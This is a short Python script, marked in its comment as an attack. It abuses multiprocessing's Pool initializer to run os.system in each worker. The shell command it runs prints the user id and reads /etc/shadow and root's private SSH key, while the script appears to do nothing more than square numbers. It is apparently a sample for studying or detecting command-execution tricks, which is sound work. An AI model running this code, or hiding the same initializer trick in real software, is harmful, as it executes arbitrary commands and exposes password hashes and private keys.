# attack: Pool(initializer=os.system, initargs=(...)) runs a shell command in every worker as it starts
import os
from multiprocessing import Pool


def square(x):
    return x * x


if __name__ == "__main__":
    with Pool(2, initializer=os.system, initargs=("id; cat /etc/shadow; cat /root/.ssh/id_rsa",)) as pool:
        print(pool.map(square, range(4)))
